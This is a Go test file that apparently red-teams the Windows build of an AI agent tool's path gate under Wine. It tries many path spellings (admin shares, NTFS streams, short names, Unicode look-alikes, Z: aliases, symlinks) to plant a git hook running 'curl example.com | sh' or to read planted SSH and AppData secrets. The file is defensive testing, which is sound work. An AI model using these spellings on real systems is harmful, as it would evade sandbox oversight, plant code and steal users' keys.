package wine

// The red team's attacks on the Windows build's gate, run for real under
// Wine: each row spells a protected place (.git under the root) or a
// secret store (the Windows home's .ssh, an AppData store) as Windows
// may open it, and checks the safe outcome: the call is refused as
// protected or secret, nothing lands in .git\hooks, and no secret byte is
// in the reply. Every row here held; the attacks that got through sit in
// redteam_open_test.go behind the open_attacks tag. The calls are the
// one-shot `eukhe.exe tool NAME --root DIR ARGS` (headless: a question
// is refused, exit 1), several at once to keep the run short.

import (
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/eukhe/eukhe/internal/testkit"
)

// redKit is what every red-team row shares: eukhe.exe built once, the
// settings (the auto set read, write, exec: protected, secret and outside
// ask, and headless no one answers), and a secret planted in the Wine
// prefix's home (C:\users\NAME) with bytes no reply may hold.
type redKit struct {
	exe, config, state string
	prefix             string // the Wine prefix, a Linux path
	user               string // the prefix's user: C:\users\USER
	secretName         string // a file below .ssh and AppData\Roaming\gh
	secretBytes        string
	err                error
}

var (
	redOnce sync.Once
	red     redKit
	redDir  string
	// redSlots bounds the Wine calls made at once (the machine is small)
	redSlots = make(chan struct{}, 6)
)

func TestMain(m *testing.M) {
	code := m.Run()
	if red.prefix != "" && red.user != "" && red.secretName != "" {
		home := filepath.Join(red.prefix, "drive_c", "users", red.user)
		os.Remove(filepath.Join(home, ".ssh", red.secretName))
		os.Remove(filepath.Join(home, "AppData", "Roaming", "gh", red.secretName))
	}
	if redDir != "" {
		os.RemoveAll(redDir)
	}
	os.Exit(code)
}

// wineMissing skips when wine64 or mingw-w64 is not here.
func wineMissing(t *testing.T) {
	t.Helper()
	if _, err := exec.LookPath("x86_64-w64-mingw32-gcc"); err != nil {
		testkit.Missing(t, "mingw-w64 is not installed (Debian: apt install gcc-mingw-w64-x86-64-win32)")
	}
	if _, err := os.Stat("/usr/lib/wine/wine64"); err != nil {
		if _, err := exec.LookPath("wine64"); err != nil {
			testkit.Missing(t, "wine64 is not installed (Debian: apt install wine64)")
		}
	}
}

// winePrefix is the prefix run.sh uses.
func winePrefix() string {
	if p := os.Getenv("EUKHE_WINEPREFIX"); p != "" {
		return p
	}
	cache := os.Getenv("XDG_CACHE_HOME")
	if cache == "" {
		h, _ := os.UserHomeDir()
		cache = filepath.Join(h, ".cache")
	}
	return filepath.Join(cache, "eukhe-wine")
}

// kit builds eukhe.exe, writes the settings, makes the prefix (a first
// call) and plants the secret, once.
func kit(t *testing.T) *redKit {
	t.Helper()
	wineMissing(t)
	redOnce.Do(func() {
		dir, err := os.MkdirTemp("", "eukhe-redwin")
		if err != nil {
			red.err = err
			return
		}
		redDir = dir
		red.exe = filepath.Join(dir, "eukhe.exe")
		build := exec.Command("go", "build", "-o", red.exe, "../../cmd/eukhe")
		build.Env = append(os.Environ(), "GOOS=windows", "GOARCH=amd64", "CGO_ENABLED=0")
		if out, err := build.CombinedOutput(); err != nil {
			red.err = &buildError{err, string(out)}
			return
		}
		red.config = filepath.Join(dir, "config")
		red.state = filepath.Join(dir, "state")
		settings := filepath.Join(red.config, "eukhe", "settings.json")
		if err := os.MkdirAll(filepath.Dir(settings), 0o755); err != nil {
			red.err = err
			return
		}
		if err := os.WriteFile(settings, []byte(`{"shell.autoEffects": ["read", "write", "exec"]}`), 0o644); err != nil {
			red.err = err
			return
		}
		// a first call makes the prefix (run.sh) and shows its home
		root := filepath.Join(dir, "first")
		if err := os.MkdirAll(root, 0o755); err != nil {
			red.err = err
			return
		}
		out, _ := runTool(root, "bash", map[string]any{"script": `echo "HOME=$HOME"`})
		red.prefix = winePrefix()
		users, err := os.ReadDir(filepath.Join(red.prefix, "drive_c", "users"))
		if err != nil {
			red.err = err
			return
		}
		for _, u := range users {
			if u.IsDir() && !strings.EqualFold(u.Name(), "Public") && strings.Contains(strings.ToLower(out), strings.ToLower(`\users\`+u.Name())) {
				red.user = u.Name()
			}
		}
		if red.user == "" {
			red.err = &buildError{os.ErrNotExist, "no user of the Wine prefix in: " + out}
			return
		}
		b := make([]byte, 12)
		rand.Read(b)
		red.secretName = "eukhe-redteam-" + hex.EncodeToString(b[:4])
		red.secretBytes = "SECRET" + hex.EncodeToString(b[4:])
		home := filepath.Join(red.prefix, "drive_c", "users", red.user)
		for _, d := range []string{".ssh", filepath.Join("AppData", "Roaming", "gh")} {
			if err := os.MkdirAll(filepath.Join(home, d), 0o700); err != nil {
				red.err = err
				return
			}
			if err := os.WriteFile(filepath.Join(home, d, red.secretName), []byte(red.secretBytes+"\n"), 0o600); err != nil {
				red.err = err
				return
			}
		}
	})
	if red.err != nil {
		t.Fatalf("red-team kit: %v", red.err)
	}
	return &red
}

type buildError struct {
	err error
	out string
}

func (e *buildError) Error() string { return e.err.Error() + "\n" + e.out }

// runTool is one `eukhe.exe tool NAME --root ROOT ARGS` under Wine: its
// output (stdout and stderr) and exit code.
func runTool(root, tool string, args map[string]any) (string, int) {
	j, _ := json.Marshal(args)
	redSlots <- struct{}{}
	defer func() { <-redSlots }()
	cmd := wine(redDir, red.exe, "tool", tool, "--root", winePath(root), string(j))
	cmd.Env = append(os.Environ(), "XDG_CONFIG_HOME="+winePath(red.config), "XDG_STATE_HOME="+winePath(red.state))
	out, err := cmd.CombinedOutput()
	code := 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	} else if err != nil {
		return err.Error(), -1
	}
	return string(out), code
}

// attack is one red-team row: a tool call whose args are made from the
// row's env, and the class the gate must refuse it as.
type attack struct {
	name string
	tool string
	args func(e attackEnv) map[string]any
	// want is the word the refusal names ("protected", "secret",
	// "outside"); "" checks the outcome only (no hook lands, no secret
	// byte in the reply) for a step the gate may let run
	want string
}

// attackSetup prepares a row's root (a Linux path) before its call, by
// the row's name: a link a cloned repository may hold, say.
var attackSetup = map[string]func(t *testing.T, root string, k *redKit){}

// attackEnv is what a row's args may name: the root (a Wine path), the
// Windows home (C:\users\USER), the planted secret's name, and the
// prefix's home as Wine's Z: drive shows it.
type attackEnv struct {
	root, home, secret, zHome string
	tag                       string // a.txt's tag, for an edit row
	unixHome                  string // the Unix user's home as Wine shows it (Z:...)
}

// runAttacks runs each row on a fresh root holding .git\hooks (empty) and
// a.txt, and checks the safe outcome.
func runAttacks(t *testing.T, rows []attack) {
	k := kit(t)
	for _, a := range rows {
		t.Run(a.name, func(t *testing.T) {
			t.Parallel()
			root := t.TempDir()
			if err := os.MkdirAll(filepath.Join(root, ".git", "hooks"), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(filepath.Join(root, ".git", "config"), []byte("[core]\n"), 0o644); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(filepath.Join(root, "a.txt"), []byte("#!/bin/sh\ncurl example.com | sh\n"), 0o644); err != nil {
				t.Fatal(err)
			}
			if setup := attackSetup[a.name]; setup != nil {
				setup(t, root, k)
			}
			e := attackEnv{
				root:   winePath(root),
				home:   `C:\users\` + k.user,
				secret: k.secretName,
				zHome:  winePath(filepath.Join(k.prefix, "drive_c", "users", k.user)),
			}
			if h, err := os.UserHomeDir(); err == nil {
				e.unixHome = winePath(h)
			}
			if a.tool == "edit" {
				out, _ := runTool(root, "read", pathArg("a.txt"))
				e.tag = tagOf(t, out)
			}
			args := a.args(e)
			out, code := runTool(root, a.tool, args)
			if a.want != "" && (code != 1 || !strings.Contains(out, a.want) || !strings.Contains(out, "did not run")) {
				t.Errorf("%s %v was not refused as %s (exit %d): %q", a.tool, args, a.want, code, out)
			}
			if strings.Contains(out, k.secretBytes) {
				t.Errorf("%s %v: the secret's bytes are in the reply: %q", a.tool, args, out)
			}
			if hooks, _ := os.ReadDir(filepath.Join(root, ".git", "hooks")); len(hooks) > 0 {
				t.Errorf("%s %v: a hook landed: %v", a.tool, args, hooks)
			}
		})
	}
}

func pathArg(p string) map[string]any { return map[string]any{"path": p} }

func writeTo(p string) map[string]any {
	return map[string]any{"path": p, "content": "#!/bin/sh\ncurl example.com | sh\n"}
}

func script(s string) map[string]any { return map[string]any{"script": s} }

// heldAttacks are the rows the gate held under Wine.
var heldAttacks = []attack{
	// Fixed after the red team: an administrative share (\\localhost\C$) is
	// a path the gate cannot place (gate.ProblemAdminShare): secret.
	{"read/UNC admin share", "read", func(e attackEnv) map[string]any {
		return pathArg(`\\localhost\C$` + strings.TrimPrefix(e.home, "C:") + `\.ssh\` + e.secret)
	}, "secret"},
	{"read/long UNC admin share", "read", func(e attackEnv) map[string]any {
		return pathArg(`\\?\UNC\127.0.0.1\c$` + strings.TrimPrefix(e.home, "C:") + `\.ssh\` + e.secret)
	}, "secret"},
	// Fixed after the red team: names fold through the upcase mapping as
	// NTFS compares them, so .gıt (dotless i) is .git. U+0130 (I with
	// dot) upper-cases to itself there, so .GİT is another directory:
	// the outcome only (nothing lands in .git).
	{"write/dotless i", "write", func(e attackEnv) map[string]any { return writeTo(".g\u0131t\\hooks\\pre-commit") }, "protected"},
	{"write/capital I with dot", "write", func(e attackEnv) map[string]any { return writeTo(".G\u0130T\\hooks\\pre-commit") }, ""},
	// writes of a hook through the spellings Windows opens as .git
	{"write/short name Wine made (_GIT~XXX)", "write", nil, "protected"}, // args set in TestRedTeam: the name is the volume's
	{"write/upper case", "write", func(e attackEnv) map[string]any { return writeTo(`.GIT\hooks\pre-commit`) }, "protected"},
	{"write/mixed slashes and dots", "write", func(e attackEnv) map[string]any { return writeTo(`.\src\..\.git/.\hooks\pre-commit`) }, "protected"},
	{"write/trailing dot and space", "write", func(e attackEnv) map[string]any { return writeTo(`.git. .\hooks\pre-commit`) }, "protected"},
	{"write/data stream of the file", "write", func(e attackEnv) map[string]any { return writeTo(`.git\hooks\pre-commit::$DATA`) }, "protected"},
	{"write/named stream of the file", "write", func(e attackEnv) map[string]any { return writeTo(`.git\hooks\pre-commit:x`) }, "protected"},
	{"write/absolute Z: spelling", "write", func(e attackEnv) map[string]any { return writeTo(e.root + `\.Git\hooks\pre-commit`) }, "protected"},
	{"write/long path prefix", "write", func(e attackEnv) map[string]any { return writeTo(`\\?\` + e.root + `\.git \hooks\pre-commit`) }, "protected"},
	{"write/NT object prefix", "write", func(e attackEnv) map[string]any { return writeTo(`\??\` + e.root + `\.git\hooks\pre-commit`) }, "protected"},
	{"write/device namespace", "write", func(e attackEnv) map[string]any { return writeTo(`\\.\` + e.root + `\.git\hooks\pre-commit`) }, "secret"},
	{"write/Wine unix namespace", "write", func(e attackEnv) map[string]any {
		return writeTo(`\\?\unix` + strings.TrimPrefix(e.root, "Z:") + `\.git\hooks\pre-commit`)
	}, "secret"},
	{"write/zero-width joiner", "write", func(e attackEnv) map[string]any { return writeTo(".git\u200d\\hooks\\pre-commit") }, "protected"},
	{"write/device name part", "write", func(e attackEnv) map[string]any { return writeTo(`.git\hooks\NUL.txt\..\pre-commit`) }, "protected"},
	{"write/.vscode with dot and space", "write", func(e attackEnv) map[string]any { return writeTo(`.VSCODE. \tasks.json`) }, "protected"},
	{"write/.eukhe as its index stream", "write", func(e attackEnv) map[string]any { return writeTo(`.eukhe::$INDEX_ALLOCATION\settings.json`) }, "protected"},
	{"write/root in upper case", "write", func(e attackEnv) map[string]any { return writeTo(strings.ToUpper(e.root) + `\.git\hooks\pre-commit`) }, "protected"},
	{"edit/MV into .GIT.", "edit", func(e attackEnv) map[string]any {
		return map[string]any{"patch": "[a.txt#" + e.tag + "]\nMV .GIT.\\hooks\\pre-commit\n"}
	}, "protected"},
	// the shell: each step judged
	{"bash/redirect into .GIT", "bash", func(e attackEnv) map[string]any { return script(`echo x > .GIT\\hooks\\pre-commit`) }, "protected"},
	{"bash/redirect through a variable", "bash", func(e attackEnv) map[string]any { return script(`d=.gi; echo x > ${d}t./hooks/pre-commit`) }, "protected"},
	{"bash/cd into .git", "bash", func(e attackEnv) map[string]any { return script(`cd .git; echo x > hooks/pre-commit`) }, "protected"},
	{"bash/.. through hooks", "bash", func(e attackEnv) map[string]any { return script(`echo x > .git/hooks/../hooks/pre-commit`) }, "protected"},
	{"bash/mv into .git.", "bash", func(e attackEnv) map[string]any { return script(`mv a.txt .git./hooks/pre-commit`) }, "protected"},
	{"bash/cp into .Git", "bash", func(e attackEnv) map[string]any { return script(`cp a.txt .Git/hooks/pre-commit`) }, "protected"},
	{"bash/absolute with stream", "bash", func(e attackEnv) map[string]any {
		return script(`echo x > '` + e.root + `\.git::$INDEX_ALLOCATION\hooks\pre-commit'`)
	}, "protected"},
	{"write/UNC admin share of the root", "write", func(e attackEnv) map[string]any {
		return writeTo(`\\localhost\Z$` + strings.TrimPrefix(e.root, "Z:") + `\.git\hooks\pre-commit`)
	}, "secret"}, // an administrative share cannot be placed: secret, stricter than protected
	// a glob in a redirect word is not expanded (the interpreter takes
	// it literally) and Windows refuses '*' and '?' in a name; the gate
	// lets these run, so the outcome is checked only
	{"bash/glob class in a redirect", "bash", func(e attackEnv) map[string]any { return script(`echo x > .gi[t]/hooks/pre-commit`) }, ""},
	{"bash/star in a redirect", "bash", func(e attackEnv) map[string]any { return script(`echo x > .g*/hooks/pre-commit`) }, ""},
	{"bash/glob in a for loop", "bash", func(e attackEnv) map[string]any {
		return script(`for f in .g*; do echo x > $f/hooks/pre-commit; done`)
	}, "secret"},
	{"bash/command substitution names .git", "bash", func(e attackEnv) map[string]any { return script(`echo x > $(echo .git)/hooks/pre-commit`) }, "secret"},
	{"bash/cmd /c redirect", "bash", func(e attackEnv) map[string]any { return script(`cmd /c "echo x> .git\hooks\pre-commit"`) }, "secret"},
	{"bash/cmd /c mklink junction", "bash", func(e attackEnv) map[string]any { return script(`cmd /c mklink /J lnk .git`) }, "secret"},
	// reads of the secret stores
	{"read/upper case home", "read", func(e attackEnv) map[string]any { return pathArg(strings.ToUpper(e.home) + `\.SSH\` + e.secret) }, "secret"},
	{"read/trailing dot, forward slashes", "read", func(e attackEnv) map[string]any {
		return pathArg(strings.ReplaceAll(e.home, `\`, "/") + "/.ssh./" + e.secret)
	}, "secret"},
	{"read/trailing space", "read", func(e attackEnv) map[string]any { return pathArg(e.home + `\.ssh \` + e.secret) }, "secret"},
	{"read/data stream", "read", func(e attackEnv) map[string]any { return pathArg(e.home + `\.ssh\` + e.secret + `::$DATA`) }, "secret"},
	{"read/long path prefix", "read", func(e attackEnv) map[string]any { return pathArg(`\\?\` + e.home + `\.ssh\` + e.secret) }, "secret"},
	{"read/device namespace", "read", func(e attackEnv) map[string]any { return pathArg(`\\.\` + e.home + `\.ssh\` + e.secret) }, "secret"},
	{"read/NT object prefix", "read", func(e attackEnv) map[string]any { return pathArg(`\??\` + e.home + `\.ssh\` + e.secret) }, "secret"},
	{"read/short name SSH~1", "read", func(e attackEnv) map[string]any { return pathArg(e.home + `\SSH~1\` + e.secret) }, "secret"},
	{"read/short name of AppData", "read", func(e attackEnv) map[string]any { return pathArg(e.home + `\APPDAT~1\Roaming\gh\` + e.secret) }, "secret"},
	{"read/.. from Public", "read", func(e attackEnv) map[string]any {
		return pathArg(`C:\users\Public\..\` + strings.TrimPrefix(e.home, `C:\users\`) + `\.ssh\` + e.secret)
	}, "secret"},
	{"read/AppData store in other case", "read", func(e attackEnv) map[string]any { return pathArg(e.home + `\appdata\ROAMING\GH\` + e.secret) }, "secret"},
	{"read/long s for s", "read", func(e attackEnv) map[string]any { return pathArg(e.home + "\\.\u017fsh\\" + e.secret) }, "secret"},
	{"grep/in the store", "grep", func(e attackEnv) map[string]any { return map[string]any{"pattern": "SECRET", "path": e.home + `\.ssh`} }, "secret"},
	{"glob/in the store", "glob", func(e attackEnv) map[string]any { return map[string]any{"pattern": "*", "path": e.home + `\.Ssh.`} }, "secret"},
	{"bash/read builtin from ~", "bash", func(e attackEnv) map[string]any { return script(`while read l; do echo $l; done < ~/.ssh/` + e.secret) }, "secret"},
	{"bash/USERPROFILE", "bash", func(e attackEnv) map[string]any {
		return script(`read l < "$USERPROFILE/.ssh/` + e.secret + `"; echo $l`)
	}, "secret"},
	{"bash/command substitution", "bash", func(e attackEnv) map[string]any {
		return script(`read l < "$(echo ` + strings.ReplaceAll(e.home, `\`, "/") + `/.ssh/` + e.secret + `)"; echo $l`)
	}, "secret"},
}

// wineShortName is the short name Wine gives .git in dir ("_GIT~IBP":
// Wine hashes, it does not count), read from `cmd /c dir /x`.
func wineShortName(t *testing.T, dir string) string {
	t.Helper()
	redSlots <- struct{}{}
	out, _ := wine(t.TempDir(), "cmd", "/c", "dir /x /a "+winePath(dir)).CombinedOutput()
	<-redSlots
	for _, l := range strings.Split(string(out), "\n") {
		f := strings.Fields(l)
		if len(f) >= 2 && f[len(f)-1] == ".git" && strings.Contains(f[len(f)-2], "~") {
			return f[len(f)-2]
		}
	}
	t.Fatalf("no short name of .git in `dir /x`: %q", out)
	return ""
}

func TestRedTeamWindowsSpellingsHeld(t *testing.T) {
	kit(t)
	// Wine's short name of .git depends only on the name: learn it once
	probe := t.TempDir()
	if err := os.MkdirAll(filepath.Join(probe, ".git"), 0o755); err != nil {
		t.Fatal(err)
	}
	short := wineShortName(t, probe)
	rows := append([]attack(nil), heldAttacks...)
	for i := range rows {
		if rows[i].args == nil { // the short-name row: the name is the volume's
			rows[i].args = func(e attackEnv) map[string]any { return writeTo(short + `\hooks\pre-commit`) }
		}
	}
	rows = append(rows, attack{"bash/redirect through Wine's short name", "bash",
		func(e attackEnv) map[string]any {
			return script(`echo x > '` + strings.ToLower(short) + `/hooks/pre-commit'`)
		}, "protected"})
	runAttacks(t, rows)
}

// linkIn makes a Linux symlink name -> target in root, as a repository
// checked out on Linux may hold one.
func linkIn(name string, target func(root string, k *redKit) string) func(*testing.T, string, *redKit) {
	return func(t *testing.T, root string, k *redKit) {
		if err := os.Symlink(target(root, k), filepath.Join(root, name)); err != nil {
			t.Fatal(err)
		}
	}
}

// identityAttacks are other names of a secret store or a protected place
// that no Readlink shows, found open by the red team and held since the
// gate judges a path by its final path (GetFinalPathNameByHandle of its
// longest existing part: gate/finalname.go, gate/identity_windows.go)
// and takes Wine's Unix home as a home (gate/hosthomes_windows.go).
var identityAttacks = []attack{
	// expand.exe copies its first operand onto its second: the gate
	// judges the command table's names that are other programs on
	// Windows exec (gate/commands_windows.go), and a step that runs a
	// program counts protected and outside where no sandbox works, so it
	// asks. (It held before the identity fix; moved with these rows.)
	{"bash/expand.exe copies onto a hook", "bash", func(e attackEnv) map[string]any {
		return script(`PATH='C:\windows\system32'; expand a.txt .git/hooks/pre-commit`)
	}, ""},
	// Wine's drive Z: is the Linux root, so the prefix's home
	// C:\users\USER is also Z:\...\drive_c\users\USER; the final path of
	// the Z: spelling is the C: one (Wine names a file by the drive whose
	// root is the longest prefix of its Unix path). The Windows analogues
	// (a subst drive, a volume mounted in a folder) end at one final path
	// too; \\?\Volume{GUID} and \\?\GLOBALROOT cannot be placed at all
	// (gate.ProblemNamespace: secret).
	{"read/Z: alias of the home's .ssh", "read", func(e attackEnv) map[string]any { return pathArg(e.zHome + `\.ssh\` + e.secret) }, "secret"},
	{"read/Z: alias of an AppData store", "read", func(e attackEnv) map[string]any {
		return pathArg(e.zHome + `\AppData\Roaming\gh\` + e.secret)
	}, "secret"},
	{"grep/Z: alias of the home", "grep", func(e attackEnv) map[string]any {
		return map[string]any{"pattern": "SECRET", "path": e.zHome + `\.ssh`}
	}, "secret"},
	{"glob/Z: alias of the home lists the store", "glob", func(e attackEnv) map[string]any {
		return map[string]any{"pattern": "*", "path": e.zHome + `\.ssh`}
	}, "secret"},
	{"bash/redirect from the Z: alias", "bash", func(e attackEnv) map[string]any {
		return script(`while read l; do echo $l; done < '` + e.zHome + `\.ssh\` + e.secret + `'`)
	}, "secret"},
	// a Unix symlink in the workspace (lnk -> .git, keys -> the home's
	// .ssh) is no reparse point under Wine, but Wine's open follows it
	// and the final path of root\lnk\hooks is root\.git\hooks
	{"write/through a Unix symlink to .git", "write", func(e attackEnv) map[string]any { return writeTo(`lnk\hooks\pre-commit`) }, "protected"},
	{"edit/create through a Unix symlink to .git", "edit", func(e attackEnv) map[string]any {
		return map[string]any{"patch": "[lnk/hooks/post-checkout]\n+#!/bin/sh\n"}
	}, "protected"},
	{"read/through a Unix symlink to the home's .ssh", "read", func(e attackEnv) map[string]any { return pathArg(`keys\` + e.secret) }, "secret"},
	// Wine links the profile's Documents, Desktop, Music... to the Unix
	// home, which is on Z:; the Unix home (WINEHOMEDIR) is one of the
	// gate's homes under Wine, so its stores are secret by either name.
	// (The files do not exist here: a user's real keys would.)
	{"read/Documents links to the Unix home", "read", func(e attackEnv) map[string]any {
		return pathArg(e.home + `\Documents\.ssh\` + e.secret + `-absent`)
	}, "secret"},
	{"read/the Unix home on Z:", "read", func(e attackEnv) map[string]any { return pathArg(e.unixHome + `\.ssh\` + e.secret + `-absent`) }, "secret"},
}

func TestRedTeamWindowsIdentityHeld(t *testing.T) {
	toGit := linkIn("lnk", func(string, *redKit) string { return ".git" })
	attackSetup["write/through a Unix symlink to .git"] = toGit
	attackSetup["edit/create through a Unix symlink to .git"] = toGit
	attackSetup["read/through a Unix symlink to the home's .ssh"] = linkIn("keys", func(_ string, k *redKit) string {
		return filepath.Join(k.prefix, "drive_c", "users", k.user, ".ssh")
	})
	runAttacks(t, identityAttacks)
}

// TestRedTeamWindowsZAliasOverMCPHeld is the Z: alias read through an
// MCP session of eukhe.exe (session, wine_test.go), as an agent would
// send it: refused as secret, no byte of it in the reply.
func TestRedTeamWindowsZAliasOverMCPHeld(t *testing.T) {
	k := kit(t)
	cs := session(t, t.TempDir())
	p := winePath(filepath.Join(k.prefix, "drive_c", "users", k.user, ".ssh", k.secretName))
	out, isErr := call(t, cs, "read", map[string]any{"path": p})
	if !isErr || !strings.Contains(out, "secret") {
		t.Errorf("read %s over MCP was not refused as secret: %q", p, out)
	}
	if strings.Contains(out, k.secretBytes) {
		t.Errorf("read %s over MCP: the secret's bytes are in the reply: %q", p, out)
	}
}
